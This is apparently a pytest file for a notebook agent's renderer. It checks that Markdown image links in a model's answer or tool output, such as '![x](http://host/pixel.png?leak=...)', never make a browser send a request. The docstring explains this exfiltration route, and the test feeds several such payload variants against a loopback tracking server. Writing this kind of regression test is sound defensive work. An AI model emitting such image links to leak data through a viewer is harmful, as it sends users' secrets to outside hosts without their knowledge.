"""Viewing a rendered run never makes the browser fetch what a model chose.

Issue 10, item 6: ``![x](http://host/pixel.png?leak=...)`` in a model's answer
became a live ``<img>``, so opening the notebook sent a request (with whatever
the model put in its query) to that host. Here a loopback "tracking" server
counts every connection while real headless Chromium shows the panels, the live
transcript and the Markdown twins (rendered as a permissive viewer would, raw
HTML allowed); the tool's own inline ``data:`` image still shows.
"""

from __future__ import annotations

import socketserver
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from nbagent.render import Transcript, render_markdown, render_result_html, render_result_markdown
from nbagent.testing import call, reply
from nbagent.tools import tool
from tests.support.agents import scripted_agent

PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000001e221bc330000000049454e44ae426082"
)


class _Counter(socketserver.BaseRequestHandler):
    def handle(self) -> None:
        self.server.hits.append(self.client_address)  # type: ignore[attr-defined]
        try:
            self.request.recv(65536)
            self.request.sendall(
                b"HTTP/1.1 200 OK\r\ncontent-type: image/png\r\ncontent-length: "
                + str(len(PIXEL)).encode()
                + b"\r\nconnection: close\r\n\r\n"
                + PIXEL
            )
        except OSError:
            pass


@pytest.fixture
def tracker() -> Iterator[Any]:
    """A loopback server counting every connection (HTTP, or a TLS hello it cannot read)."""
    server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), _Counter)
    server.hits = []  # type: ignore[attr-defined]
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture
def page_server() -> Iterator[Any]:
    """Serves ``pages[path]`` over loopback HTTP, so the page has a real http: origin."""
    pages: dict[str, str] = {}

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = pages.get(self.path, "").encode()
            self.send_response(200 if self.path in pages else 404)
            self.send_header("content-type", "text/html; charset=utf-8")
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.pages = pages  # type: ignore[attr-defined]
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()


def permissive_markdown(text: str) -> str:
    """Markdown as a viewer that allows raw HTML renders it (nbconvert, many previews)."""
    from markdown_it import MarkdownIt

    return str(MarkdownIt("commonmark", {"html": True}).render(text))


def test_a_rendered_run_fetches_nothing_a_model_chose(browser, tracker, page_server):
    port = tracker.server_address[1]
    remote = [
        f"![pixel](http://127.0.0.1:{port}/pixel.png?leak=secret)",
        f"![pixel](//127.0.0.1:{port}/relative-scheme.png)",
        f"![pixel](https://127.0.0.1:{port}/tls.png)",
        f"![pixel][r]\n\n[r]: http://127.0.0.1:{port}/reference.png",
        f"[![pixel](http://127.0.0.1:{port}/in-link.png)](http://127.0.0.1:{port}/click)",
    ]

    @tool(register=False)
    def note() -> str:
        """A tool whose result is Markdown with remote images."""
        return "\n\n".join(remote)

    answer = "Here you go:\n\n" + "\n\n".join(remote)
    agent = scripted_agent([reply(calls=[call("note")]), answer], tools=[note], store=None)
    events = list(agent.stream_sync("go"))
    result = events[-1].result
    live = Transcript().feed_all(events).html()  # what the live display shows
    parts = [
        render_result_html(result),
        live,
        render_markdown(result.output),
        permissive_markdown(render_result_markdown(result)),
        permissive_markdown(agent.conversation.to_markdown()),
    ]
    page_server.pages["/panel.html"] = (
        "<!doctype html><html><head><meta charset='utf-8'></head><body>"
        + "<hr>".join(parts)
        + "</body></html>"
    )
    page = browser.new_page()
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    try:
        page.goto(f"http://127.0.0.1:{page_server.server_address[1]}/panel.html")
        page.wait_for_load_state("networkidle")
        page.wait_for_timeout(300)
        assert page.locator("a.nba-image-link").count() >= len(remote)
    finally:
        page.close()
    fetched = [u for u in requests if f":{port}" in u]
    assert fetched == [] and tracker.hits == [], (fetched, tracker.hits)
